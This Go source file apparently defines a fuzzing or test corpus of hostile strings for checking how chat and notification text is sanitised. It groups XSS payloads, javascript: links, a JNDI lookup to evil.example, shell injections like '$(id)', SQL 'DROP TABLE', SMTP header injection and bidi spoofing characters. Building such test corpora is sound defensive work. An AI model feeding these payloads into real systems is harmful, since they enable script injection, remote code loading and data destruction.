package hostile

import "strings"

// group is texts that are after the same.
type group struct {
	after string
	texts []string
}

func corpus() []group {
	return []group{
		{"markdown", []string{
			"*bold*", "**bold**", "_it_", "__it__", "***both***", "~~gone~~", "`code`", "``co`de``", "```\nblock\n```", "~~~\nblock\n~~~",
			"[click](https://evil.example)", "[click](https://evil.example \"title\")", "[click](javascript:alert(1))", "[click](<https://evil.example>)",
			"[click][1]\n\n[1]: https://evil.example", "[1]: https://evil.example", "![img](https://evil.example/x.png)", "![](//evil.example/x)",
			"[![img](https://evil.example/x.png)](https://evil.example)", "](https://evil.example)", ")](https://evil.example)[x](y", "](", "[", "]", "(", ")", "\\", "\\\\", "\\]", "a\\](https://evil.example)",
			"# heading", "a\n# heading", "heading\n=====", "heading\n---", "- item", "* item", "+ item", "1. item", "1) item", "> quote", ">>> quote", "---", "***", "- [ ] task",
			"| a | b |\n|---|---|\n| c | d |", "a  \nb", "a\n\nb", "    code", "\tcode", "[^1]: note", "==mark==", "^up^", "~down~", "$x$", "$$x$$", "||spoiler||", ":::danger\nx\n:::",
			"<https://evil.example>", "<mailto:a@evil.example>", "<a@evil.example>", "a*b_c`d[e]f(g)h#i+j-k.l!m|n{o}p>q~r",
		}},
		{"slack", []string{
			"<!channel>", "<!here>", "<!everyone>", "<!channel|channel>", "<!here|@here>", "<!group>", "<@U012AB3CD>", "<@W012AB3CD|bob>", "<#C012AB3CD>", "<#C012AB3CD|general>",
			"<!subteam^S012AB3CD>", "<!subteam^S012AB3CD|@admins>", "<!date^1392734382^{date}^https://evil.example|now>", "<https://evil.example|safe.example>", "<mailto:a@evil.example|mail>", "<tel:+100|call>",
			"@channel", "@here", "@everyone", "@bob", "#general", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "&#60;!channel&#62;", "<", ">", "&", "<!channel", "!channel>", "<\n!channel>", "*<!channel>*", "`<!channel>`", "<!channel>\u0000",
		}},
		{"mention", []string{
			"@all", "@All", "@所有人", "@全体成员", "@everyone", "@13800138000", "@+86-13800138000", "@manager123", "<@all>", "<@userid>", "<@!123456789>", "<@&123456789>", "<#123456789>", "</cmd:123>", "<:emoji:123>", "<a:emoji:123>", "<t:1700000000:R>", "<id:customize>",
			"<at user_id=\"all\">everyone</at>", "<at user_id=\"ou_1\"></at>", "<at id=all></at>", "<at ids=ou_1,ou_2></at>", "<at email=a@evil.example></at>", "<at>Bob</at>", "<at id=\"0\">Team</at>",
			"@team", "@group", "@room", "@[Bob](u:1)", "@[everyone]", "!everyone", "@\u200beveryone", "＠all", "﹫all", "@ all", "(all)", "@@all", "a@all", "@here!", "@all\u00a0", "[~bob]", "@'Bob B'", "@\"Bob B\"", "+admins", "/giphy x", "/kick @bob",
		}},
		{"html", []string{
			"<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src=\"https://evil.example/t.gif\">", "<a href=\"https://evil.example\">x</a>", "<a href='javascript:alert(1)'>x</a>", "<a href=https://evil.example>x",
			"<svg/onload=alert(1)>", "<iframe src=//evil.example></iframe>", "<b>x", "</b></i></p></div>", "</td></tr></table>", "</body></html>", "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example>",
			"<form action=//evil.example><input name=p></form>", "<!--", "-->", "<!-- x -->", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>", "<!DOCTYPE x>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><b>", "'><b>", "&quot;><b>", "&#x3c;b&#x3e;", "&lt;b&gt;", "&amp;lt;b&amp;gt;", "&nbsp;", "&", "&copy", "&#0;",
			"<font color=red size=7>x</font>", "<br>", "<p>", "<u>x</u>", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<x\u0000y>", "<\u200bscript>", "＜script＞",
		}},
		{"link", []string{
			"https://evil.example", "https://evil.example/a?b=c#d", "HTTP://EVIL.EXAMPLE", "http://evil.example:8080/", "https://user:pass@evil.example/", "//evil.example", "www.evil.example", "evil.example", "evil.com/login", "evil.co.uk", "mailto:a@evil.example", "a@evil.example", "ftp://evil.example", "tel:+1000", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<b>x", "vbscript:x", "file:///etc/passwd", "dingtalk://dingtalkclient/page/link?url=https%3A%2F%2Fevil.example", "slack://open", "smb://evil.example/x", "\\\\evil.example\\x",
			"https://evil.example)", "https://evil.example|x>", "https://evil.example\">x", "https://evil.example\n", "https:\\\\evil.example", "https:/evil.example", "xn--80ak6aa92e.com", "аррӏе.com", "http://[::1]/", "http://127.0.0.1/", "http://2130706433/", "1.2.3.4", "see https://evil.example now", "x.zip", "..%2f..%2fetc", "?a=b&c=d#e", "x/../../y", "магазин.рф", "https://evil.example/%0d%0aX:y",
		}},
		{"direction", []string{
			"\u202egnp.exe", "a\u202eb\u202cc", "\u202dx", "\u2066x\u2069", "\u2067x", "\u2068x", "\u200fx", "\u200ex", "\u061cx", "שלום", "مرحبا", "a שלום b", "\u202e@all\u202c", "\u202e>lennahc!<", "\u2069\u2069x", "latest\u202e)nekorb(",
		}},
		{"unseen", []string{
			"a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "\ufeffa", "a\u00adb", "\u180ea", "\u3164", "\u115f", "\u2800", "a\u034fb", "\u00a0", "\u2028a\u2029b", "a\u0085b", "", " ", "   ", "\ufe0f", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb", "\ue000", "\ufffe", "\U0010ffff", "\u200b", "@\u2060all", "ﬁ", "Å", "A\u030a", "𝐚𝐝𝐦𝐢𝐧", "ａｄｍｉｎ",
		}},
		{"control", []string{
			"\x00", "a\x00b", "\x01\x02\x03", "\x07", "\x08\x08\x08", "\x0b", "\x0c", "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x1b[2J", "\x7f", "\u0080", "\u009b31m", "\x1a", "\x04", "a\tb", "a\rb", "a\nb", "a\r\nb", "\n", "\r\n\r\n", "a\n\n\n\n\n\n\nb",
		}},
		{"header", []string{
			"x\r\nBcc: evil@evil.example", "x\nBcc: evil@evil.example", "x\rBcc: evil@evil.example", "x\r\n Bcc: evil@evil.example", "x\r\n\r\n<b>body</b>", "x\r\nContent-Type: text/html\r\n\r\nx", "Subject: x", "x\r\nX-Evil: 1", "x\r\nSet-Cookie: a=b", "x HTTP/1.1\r\nHost: evil.example\r\n\r\n",
			"x%0d%0aBcc:evil@evil.example", "x\u010aBcc: y", "x\u560aBcc: y", "嘊嘍Bcc: y", "=?utf-8?q?=0d=0aBcc:_x?=", "=?utf-8?b?DQpCY2M6IHg=?=", "\"Bob\" <evil@evil.example>", "a, evil@evil.example", "a; evil@evil.example", "<evil@evil.example>", "evil@evil.example\x00@good.example", "(comment) x", "x>\r\nRCPT TO:<evil@evil.example>",
			"\r\n.\r\nMAIL FROM:<x>", "\n.\n", ".", "..", ".x", "\r\n.\r\n", "\n.\r\n", "\r\nQUIT\r\n", "From x", "\nFrom x", "--boundary", "\r\n--boundary--", "=0D=0A", "=", "x=\r\ny", "Re: [x]", "Auto-Submitted: no",
		}},
		{"emoji", []string{
			":smile:", ":rotating_light:", ":+1::skin-tone-2:", "a:b:c", ":party_parrot:", "😀", "👨‍👩‍👧‍👦", "🇩🇪", "[smile]", "[微笑]", "(smile)", "(successful)", ":) :( ;)", "/微笑", "☺️", "#️⃣", "1️⃣",
		}},
		{"encoding", []string{
			"\xff", "a\xffb", "\xc3\x28", "\xc0\xaf", "\xe0\x80\xaf", "\xed\xa0\x80", "\xed\xa0\x80\xed\xb0\x80", "\xf8\x88\x80\x80\x80", "\xf4\x90\x80\x80", "\xfe\xff\x00a", "\x80", "abc\xe4", "\xe4\xf6\xfc", "\\ud800", "\\udc00x", "\\u0000", "%ff", "%00", "+ADw-script+AD4-", "\x1b$B", "\ufffd", "\xf0\x9f\x98",
		}},
		{"long", []string{
			strings.Repeat("x", 300), strings.Repeat("x", 3000), strings.Repeat("x", 20_000), strings.Repeat("漢", 1000), strings.Repeat("😀", 750), strings.Repeat("<", 3000), strings.Repeat("&", 3000), strings.Repeat("*", 3000), strings.Repeat("\"", 3000), strings.Repeat("\\", 3000), strings.Repeat("a ", 1500), strings.Repeat("\n", 3000), strings.Repeat("[", 3000), strings.Repeat("`", 3000), strings.Repeat("@all ", 600), strings.Repeat("\xff", 3000), strings.Repeat("\u202e", 1000), strings.Repeat("https://evil.example/ ", 1000), strings.Repeat("e\u0301", 1000), strings.Repeat("<b>", 1000), strings.Repeat("&amp;", 600), strings.Repeat("> ", 1500),
			strings.Repeat("x", 149) + "&", strings.Repeat("x", 99) + "<!channel>", strings.Repeat("漢", 66) + "<@U1>",
		}},
		{"template", []string{
			"{{.}}", "{{.actor.name}}", "{{range $}}x{{end}}", "{{", "}}", "{{/*", "{{call .x}}", "{{print `x`}}", "${artifact.digest}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% include '/etc/passwd' %}", "{0}", "{}", "%s", "%n%x%d", "%!s(MISSING)", "$HOME", "$(id)", "`id`", "; id", "| id", "&& id", "%PATH%", "{{constructor.constructor('alert(1)')()}}", "[[x]]", "${jndi:ldap://evil.example/x}", "@{x}",
		}},
		{"json", []string{
			"\"", "\\\"", "\",\"text\":\"x", "\"},{\"a\":\"b", "\"}]}", "{\"a\":1}", "null", "true", "0", "-1", "1e999", "[]", "{}", "\\", "\\n", "\\u003c", "\\\\\"", "'", "/*", "//", "\"msgtype\":\"text\"", "\",\"at\":{\"isAtAll\":true},\"x\":\"", "\",\"link_names\":1,\"x\":\"", "\",\"parse\":\"full\",\"x\":\"", "\",\"notify\":true,\"x\":\"", "a=b&c=d", "a;b", "__proto__", "constructor", "NaN",
			"' OR 1=1 --", "\"; DROP TABLE events; --",
		}},
	}
}
